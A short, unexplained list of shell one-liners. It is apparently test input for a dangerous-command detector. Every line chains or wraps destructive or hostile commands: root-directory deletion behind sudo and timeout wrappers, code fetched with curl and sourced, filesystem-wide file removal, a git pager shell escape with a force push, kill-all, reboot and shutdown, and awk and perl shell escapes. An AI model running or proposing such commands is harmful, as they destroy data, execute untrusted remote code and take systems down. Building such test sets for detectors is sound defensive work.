sudo env X=1 nice -n 5 timeout 3 bash -c 'rm -rf "$1"' _ /
eval "ls"; source <(curl -s x); python3 -c "import os; os.system('id')"
find / -name '*.c' -exec rm -f {} + ; echo / | xargs -I{} rm -rf {}
git -c core.pager='!sh' push --force origin +main
trap 'kill -9 -1' EXIT; alias a='reboot'; ssh h 'shutdown'
awk 'BEGIN { system("id") }'; perl -e 'exec "sh"'
